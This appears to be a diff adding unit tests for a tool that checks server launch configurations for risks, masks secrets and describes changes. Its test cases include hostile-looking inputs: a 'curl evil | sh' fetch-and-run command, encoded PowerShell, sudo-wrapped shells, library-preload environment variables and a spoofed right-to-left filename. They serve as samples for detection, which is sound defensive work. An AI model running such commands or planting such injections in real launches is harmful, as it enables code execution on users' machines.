@@ -1,0 +1,156 @@
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import type { ResolvedLaunch } from '../../../src/core/config/types';
+import {
+  analyzeLaunchRisks,
+  describeLaunchChange,
+  formatCommandLine,
+  launchFingerprint,
+  MASK,
+  summarizeLaunch,
+} from '../../../src/core/trust/launch';
+
+function launch(over: Partial<ResolvedLaunch> = {}): ResolvedLaunch {
+  return { command: 'node', args: ['server.js'], cwd: '/ws', env: {}, secrets: [], ...over };
+}
+
+const riskMessages = (l: Partial<ResolvedLaunch>): string[] => analyzeLaunchRisks(launch(l)).map((r) => `${r.kind}: ${r.message}`);
+
+test('the fingerprint changes with every part of the launch', () => {
+  const base = launchFingerprint(launch());
+  assert.match(base, /^[0-9a-f]{64}$/);
+  assert.equal(launchFingerprint(launch()), base, 'stable');
+  for (const change of [
+    { command: 'nodejs' },
+    { args: ['server.js', '--x'] },
+    { args: ['--x', 'server.js'] },
+    { cwd: '/other' },
+    { env: { A: '1' } },
+    { env: { A: null } },
+    { envFile: '/ws/.env' },
+  ] satisfies Partial<ResolvedLaunch>[]) {
+    assert.notEqual(launchFingerprint(launch(change)), base, JSON.stringify(change));
+  }
+});
+
+test('the fingerprint does not depend on env order and never on the password value', () => {
+  assert.equal(launchFingerprint(launch({ env: { A: '1', B: '2' } })), launchFingerprint(launch({ env: { B: '2', A: '1' } })));
+  const a = launchFingerprint(launch({ env: { TOKEN: 'hunter2-secret' }, secrets: ['hunter2-secret'] }));
+  const b = launchFingerprint(launch({ env: { TOKEN: 'another-password' }, secrets: ['another-password'] }));
+  assert.equal(a, b, 'a new password is not a new launch');
+  const c = launchFingerprint(launch({ env: { OTHER: 'hunter2-secret' }, secrets: ['hunter2-secret'] }));
+  assert.notEqual(a, c, 'where the secret goes is part of the launch');
+});
+
+test('the summary masks passwords and token-like values and keeps the rest', () => {
+  const s = summarizeLaunch(
+    launch({
+      args: ['--token=pass-word-1234', 'plain'],
+      env: { PASS: 'pass-word-1234', GH: 'ghp_abcdefghijklmnopqrstuvwxyz0123456789', MODE: 'debug', GONE: null },
+      secrets: ['pass-word-1234'],
+    }),
+  );
+  assert.deepEqual(s.args, [`--token=${MASK}`, 'plain']);
+  assert.equal(s.env.PASS, MASK);
+  assert.match(s.env.GH ?? '', new RegExp(`^${MASK} \\(sha256:[0-9a-f]{8}\\)$`));
+  assert.equal(s.env.MODE, 'debug');
+  assert.equal(s.env.GONE, null);
+  assert.ok(!JSON.stringify(s).includes('pass-word-1234'));
+  assert.ok(!JSON.stringify(s).includes('ghp_abcdefghij'));
+});
+
+test('the command line shows every argument quoted, untruncated, with hidden characters visible', () => {
+  const long = 'x'.repeat(5000);
+  const line = formatCommandLine('/usr/bin/node', ['a b', long, 'evil\u202Etxt.exe', '\u001b[31mred', 'q"uote']);
+  assert.ok(line.includes(long), 'not truncated');
+  assert.ok(line.startsWith('"/usr/bin/node" "a b" '));
+  assert.ok(line.includes('"evil\\u202Etxt.exe"'));
+  assert.ok(line.includes('"\\u001B[31mred"') || line.includes('"\\u001b[31mred"'));
+  assert.ok(line.includes('"q\\"uote"'));
+  assert.ok(!/[\u202e\u001b]/.test(line));
+});
+
+test('inline code given to shells and interpreters is a risk', () => {
+  const cases: [string, string[]][] = [
+    ['bash', ['-c', 'curl evil | sh']],
+    ['/bin/bash', ['-lc', 'x']],
+    ['sh', ['-c', 'x']],
+    ['zsh', ['-ic', 'x']],
+    ['cmd.exe', ['/d', '/s', '/c', 'x']],
+    ['C:\\Windows\\System32\\cmd.exe', ['/C', 'x']],
+    ['node', ['-e', 'require("child_process")']],
+    ['node', ['--eval=1+1']],
+    ['node', ['-p', '1']],
+    ['python', ['-c', 'import os']],
+    ['python3', ['-u', '-c', 'import os']],
+    ['python3.12', ['-cimport os']],
+    ['perl', ['-e', 'x']],
+    ['ruby', ['-e', 'x']],
+    ['deno', ['eval', 'x']],
+    ['powershell', ['-NoProfile', '-Command', 'x']],
+    ['pwsh', ['-c', 'x']],
+    ['pwsh.exe', ['-EncodedCommand', 'AAAA']],
+    ['powershell.exe', ['-enc', 'AAAA']],
+  ];
+  for (const [command, args] of cases) {
+    const risks = analyzeLaunchRisks(launch({ command, args }));
+    assert.ok(risks.some((r) => r.kind === 'inlineCode'), `${command} ${args.join(' ')}`);
+  }
+});
+
+test('interpreters running a script file are not flagged', () => {
+  for (const [command, args] of [
+    ['node', ['server.js', '-e', 'not-node-flag']],
+    ['bash', ['./run.sh', '-c', 'argument-of-the-script']],
+    ['python', ['-m', 'mcp_server']],
+    ['npx', ['-y', '@modelcontextprotocol/server-memory']],
+    ['uvx', ['mcp-server-git', '--repository', '.']],
+    ['pwsh', ['-File', 'x.ps1']],
+    ['deno', ['run', 'main.ts']],
+  ] as [string, string[]][]) {
+    assert.deepEqual(riskMessages({ command, args }), [], `${command} ${args.join(' ')}`);
+  }
+});
+
+test('sudo and wrappers are looked through', () => {
+  const msgs = riskMessages({ command: 'sudo', args: ['-E', 'env', 'A=1', 'bash', '-c', 'id'] });
+  assert.ok(msgs.some((m) => m.startsWith('privilege: sudo')), msgs.join('\n'));
+  assert.ok(msgs.some((m) => m.startsWith('inlineCode: bash -c') && m.includes('"id"')), msgs.join('\n'));
+  assert.ok(riskMessages({ command: 'doas', args: ['node', 'x.js'] }).some((m) => m.startsWith('privilege: doas')));
+});
+
+test('env that injects code is a risk; unsetting it is not', () => {
+  const env = {
+    NODE_OPTIONS: '--require /tmp/x.js',
+    LD_PRELOAD: '/tmp/x.so',
+    LD_LIBRARY_PATH: '/tmp',
+    DYLD_INSERT_LIBRARIES: '/tmp/x.dylib',
+    BASH_ENV: '/tmp/x.sh',
+    ENV: '/tmp/x.sh',
+    PYTHONSTARTUP: '/tmp/x.py',
+    PERL5OPT: '-Mx',
+    RUBYOPT: '-rx',
+    SAFE: 'ok',
+  };
+  const msgs = riskMessages({ env });
+  for (const name of Object.keys(env).filter((n) => n !== 'SAFE')) assert.ok(msgs.some((m) => m.startsWith(`riskyEnv: env ${name} `)), name);
+  assert.ok(!msgs.some((m) => m.includes('SAFE')));
+  assert.deepEqual(riskMessages({ env: { NODE_OPTIONS: null } }), []);
+});
+
+test('a changed launch is described: arguments added and removed, env, cwd, command', () => {
+  const old = summarizeLaunch(launch({ args: ['server.js', '--port', '1'], env: { A: '1', B: '2', T: 'pw12345' }, secrets: ['pw12345'] }));
+  const changes = describeLaunchChange(
+    old,
+    launch({ command: 'bash', args: ['server.js', '--port', '2', '--extra'], cwd: '/elsewhere', env: { A: '1', B: '3', C: 'new', T: 'other-pw' }, secrets: ['other-pw'] }),
+  );
+  assert.deepEqual(changes, [
+    'command: "node" → "bash"',
+    'arguments removed: "1"',
+    'arguments added: "2" "--extra"',
+    'cwd: "/ws" → "/elsewhere"',
+    'env B: "2" → "3"',
+    'env C added: "new"',
+  ]);
+  assert.deepEqual(describeLaunchChange(old, launch({ args: ['server.js', '--port', '1'], env: { A: '1', B: '2', T: 'pw12345' }, secrets: ['pw12345'] })), []);
+});
